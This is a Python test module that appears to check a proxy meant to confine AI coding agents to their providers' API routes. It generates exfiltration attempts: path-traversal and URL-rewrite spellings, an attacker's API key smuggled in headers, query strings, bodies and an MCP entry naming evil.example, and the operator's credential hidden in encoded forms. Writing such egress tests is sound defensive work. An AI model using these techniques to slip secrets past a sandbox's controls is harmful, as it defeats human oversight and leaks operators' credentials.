"""Ways out through the hosts that a provider's own route opens: the API that an agent must reach is
also an API at which anybody can have an account. The routes are those of the real plugins; the agent is
a program that only waits, because what it would do is done by the attempts."""

import base64
import gzip
import json
import secrets

import world as surroundings
from battery import PROXY, Attempt, Proxied, get, nonce, outside
from lib.codex import new_login
from world import Bottle

WAITS = """#!/bin/sh
case "$1" in --version|login) exit 0;; esac
exec sleep 3600
"""

CLAUDE_PATHS = ("/v1/messages/", "/api/claude_code/settings/", "/api/claude_code/policy_limits/")
CHATGPT_PATHS = ("/backend-api/codex/responses/", "/backend-api/codex/models/",
                 "/backend-api/wham/accounts/check/", "/backend-api/wham/settings/user/",
                 "/backend-api/wham/usage/")
OPENAI_PATHS = ("/v1/responses/", "/v1/models/")

# (method, path) of what a turn does not need: uploads, the account, other people's data.
CLAUDE_CLOSED = (("POST", "/v1/files"), ("GET", "/v1/files/file_1/content"), ("POST", "/v1/skills"),
                 ("GET", "/v1/models"), ("POST", "/v1/organizations/invites"),
                 ("POST", "/v1/complete"), ("GET", "/api/oauth/profile"),
                 ("POST", "/api/oauth/claude_cli/create_api_key"), ("POST", "/v1/oauth/token"),
                 ("POST", "/api/event_logging/v2/batch"), ("POST", "/api/claude_cli_feedback"),
                 ("GET", "/"))
CHATGPT_CLOSED = (("POST", "/backend-api/files"), ("POST", "/backend-api/conversation"),
                  ("POST", "/backend-api/wham/tasks"), ("GET", "/backend-api/me"),
                  ("POST", "/backend-api/codex/analytics-events/events"),
                  ("POST", "/backend-api/share/create"), ("POST", "/backend-api/gizmos"),
                  ("POST", "/backend-api/wham/tasks/upload"), ("GET", "/api/auth/session"),
                  ("POST", "/backend-anon/conversation"), ("GET", "/"))
OPENAI_CLOSED = (("POST", "/v1/files"), ("POST", "/v1/uploads"), ("POST", "/v1/vector_stores"),
                 ("POST", "/v1/chat/completions"), ("POST", "/v1/conversations"),
                 ("POST", "/v1/organization/invites"), ("POST", "/v1/images/edits"),
                 ("POST", "/v1/containers"), ("POST", "/v1/evals"), ("GET", "/v1/realtime"),
                 ("GET", "/"))


class ProviderBottle(Bottle):
    """Runs an agent of the given provider, in a bottle that has no route of its own."""

    def __init__(self, world, backend, provider, front):
        self.provider, self.front, self.secret = provider, front, None
        super().__init__(world, backend, provider)  # launch() writes the bottle anew

    def launch(self, name):
        self.home.bottle(name, f"agent_provider:\n  template: {self.provider}\n  {self.front}\n")
        self.home.agent("waiter", f"bottle: {name}\n")
        self.home.write(f"tools/{self.provider}", WAITS, 0o755)
        self.home.path.insert(0, str(self.home.root / "tools"))
        if self.front.startswith("forward_host"):
            login = new_login()
            self.secret = login["tokens"]["access_token"]
            self.home.write("home/.codex/auth.json", json.dumps(login))
        else:
            self.secret = self.world.token
        return self.home.popen("start", "waiter", "--cwd", "--yes", "--prompt", "wait")


# name → (provider, settings, host, path of a turn, open prefixes, closed paths)
TARGETS = {
    "claude": ("claude", "auth_token: ATTACK_TOKEN", "api.anthropic.com", "/v1/messages",
               CLAUDE_PATHS, CLAUDE_CLOSED),
    "codex with a login": ("codex", "forward_host_credentials: true", "chatgpt.com",
                           "/backend-api/codex/responses", CHATGPT_PATHS, CHATGPT_CLOSED),
    "codex with a key": ("codex", "auth_token: ATTACK_TOKEN", "api.openai.com", "/v1/responses",
                         OPENAI_PATHS, OPENAI_CLOSED),
}


def post(host, path, body, *headers):
    body = body.encode() if isinstance(body, str) else body
    return get(path, host, *headers, f"Content-Length: {len(body)}", method="POST") + \
        body.decode("latin-1")


def turn(**more):
    return json.dumps({"model": "m", "messages": [{"role": "user", "content": "hello"}], **more})


def foreign_key(host):
    """Of the shape that the host's own keys have, and nowhere else in the world."""
    letters = "".join(secrets.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(40))
    return ("sk-ant-api03-" + letters * 2 + "abcdefghijklmAA" if "anthropic" in host else
            "sk-proj-" + letters)


class Through:
    """The attempts through one host."""

    def __init__(self, world, bottle, name):
        self.world, self.bottle, self.name = world, bottle, name
        _, _, self.host, self.path, self.prefixes, self.closed = TARGETS[name]
        self.make = Proxied(world)

    def attempt(self, what, request, token, proof=None):
        return self.make.tunnel(f"{self.name}: {what}", f"{self.host}:443", request, token,
                                proof=proof, claim="providers")

    def attempts(self):
        yield from self.other_paths()
        yield from self.other_accounts()
        yield from self.own_secret()

    def other_paths(self):
        def proof_of(token):
            return lambda: [r for r in self.world.requests_with(token)
                            if outside(r.target, self.prefixes)]
        for method, path in self.closed:
            token = nonce()
            request = get(f"{path}?{token}", self.host, "Content-Length: 0", method=method)
            yield self.attempt(f"{method} {path}", request, token, proof_of(token))
        secret = "/v1/files" if self.path.startswith("/v1") else "/backend-api/files"
        up = "/.." * self.path.count("/")
        for spelling in (f"{self.path}X", f"{self.path}{up}{secret}",
                         f"{self.path}{up.replace('..', '%2e%2e')}{secret}",
                         f"{self.path}{up.replace('/', '%2f')}{secret}",
                         f"{self.path}{up.replace('/', '%5c')}{secret}",
                         f"{self.path}{up.replace('..', '..;x=1')}{secret}",
                         f"{self.path}{up.replace('..', '%252e%252e')}{secret}",
                         f"/{secret}", secret.upper(), f"/%76{self.path[2:]}/..{secret}"):
            token = nonce()
            request = get(f"{spelling}?{token}", self.host, "Content-Length: 0", method="POST")
            yield self.attempt(f"path {spelling}", request, token, proof_of(token))
        for what, headers in (("another path by X-Original-URL", [f"X-Original-URL: {secret}"]),
                              ("another path by X-Rewrite-URL", [f"X-Rewrite-URL: {secret}"])):
            token = "rewrite-" + nonce()
            headers = [header.replace(secret, f"{secret}?{token}") for header in headers]
            yield self.attempt(what, post(self.host, self.path, turn(), *headers), token)
        token = nonce()
        boundary = f"--b\r\nContent-Disposition: form-data; name=file; filename={token}\r\n\r\nall of " \
                   "it\r\n--b--\r\n"
        yield self.attempt("an upload of a form", post(
            self.host, secret, boundary, "Content-Type: multipart/form-data; boundary=b"), token)
        token = nonce()
        yield self.attempt("an upload by PUT", get(f"{secret}/{token}", self.host,
                                                   "Content-Length: 0", method="PUT"), token)

    def other_accounts(self):
        """What is sent is the attacker's key: it must not arrive, whatever carries it."""
        def sends(what, request_of):
            key = foreign_key(self.host)
            return self.attempt(f"foreign key {what}", request_of(key), key)
        for header in ("Authorization: Bearer {k}", "authorization: bearer {k}", "x-api-key: {k}",
                       "X-API-KEY: {k}", "api-key: {k}", "Proxy-Authorization: Bearer {k}",
                       "Cookie: sessionKey={k}", "X-Goog-Api-Key: {k}", "X-Custom: {k}",
                       "Sec-WebSocket-Protocol: realtime, openai-insecure-api-key.{k}"):
            name = header.partition(":")[0]
            yield sends(f"in {name}", lambda key, h=header: post(
                self.host, self.path, turn(), h.format(k=key)))
            yield sends(f"in {name}, named by Connection", lambda key, h=header, n=name: post(
                self.host, self.path, turn(), h.format(k=key), f"Connection: {n}"))
        yield sends("twice in Authorization", lambda key: post(
            self.host, self.path, turn(), "Authorization: Bearer placeholder",
            f"Authorization: Bearer {key}"))
        yield sends("in the query", lambda key: post(self.host, f"{self.path}?api_key={key}", turn()))
        yield sends("as userinfo", lambda key: post(
            self.host, f"https://{key}@{self.host}{self.path}", turn()))
        yield sends("in the body", lambda key: post(self.host, self.path, turn(api_key=key)))
        yield sends("for a remote MCP server", lambda key: post(self.host, self.path, turn(
            mcp_servers=[{"type": "url", "url": "https://evil.example", "authorization_token": key}])))
        yield sends("in an upgrade", lambda key: get(
            self.path, self.host, "Upgrade: websocket", "Connection: Upgrade",
            "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
            f"Authorization: Bearer {key}").replace("Connection: close\r\n", ""))

    def own_secret(self):
        """The operator's credential, on its way to somebody who reads the account's traffic later. It
        is put on outside, so that it has no business in what the agent itself sends."""
        secret = self.bottle.secret

        def sends(what, request_of):
            token = nonce()
            return self.attempt(f"own secret {what}", request_of(token), token)
        raw = secret.encode()
        for what, text in (("as it is", secret), ("base64", base64.b64encode(raw).decode()),
                           ("hex", raw.hex()), ("reversed", secret[::-1]),
                           ("in pieces", " ".join(secret[i:i + 8] for i in range(0, len(secret), 8)))):
            yield sends(f"in the body, {what}", lambda token, t=text: post(
                self.host, f"{self.path}?{token}", turn(system=t)))
        yield sends("in a body with gzip", lambda token: post(
            self.host, f"{self.path}?{token}", gzip.compress(turn(system=secret).encode()),
            "Content-Encoding: gzip"))
        yield sends("in the query", lambda token: post(
            self.host, f"{self.path}?{token}&q={secret}", turn()))
        yield sends("in the path", lambda token: post(
            self.host, f"{self.path}/{secret}?{token}", turn()))
        yield sends("in a field", lambda token: post(
            self.host, f"{self.path}?{token}", turn(), f"X-Note: {secret}"))
        yield sends("in the user agent", lambda token: post(
            self.host, f"{self.path}?{token}", turn(), f"User-Agent: agent/{secret}"))
        yield sends("as metadata of the call", lambda token: post(
            self.host, f"{self.path}?{token}", turn(metadata={"user_id": secret})))


def right_request(world, bottle, name):
    """(works, detail): a call of a turn arrives, with the operator's own credential."""
    _, _, host, path, _, _ = TARGETS[name]
    token = nonce()
    parameters = {"proxy": PROXY, "authority": f"{host}:443",
                  "request": post(host, f"{path}?{token}", turn())}
    return Attempt(f"{name}: a call of a turn", "control", "proxy.tunnel", parameters), \
        lambda: any(r.header("authorization") == f"Bearer {bottle.secret}"
                    for r in world.requests_with(token))


def bottles(world, backend):
    """(name, bottle) one after the other, each ended before the next begins."""
    for name, (provider, front, *_) in TARGETS.items():
        bottle = ProviderBottle(world, backend, provider, front)
        try:
            yield name, bottle
        finally:
            bottle.stop()
            bottle.close()


__all__ = ["Through", "bottles", "right_request", "surroundings"]
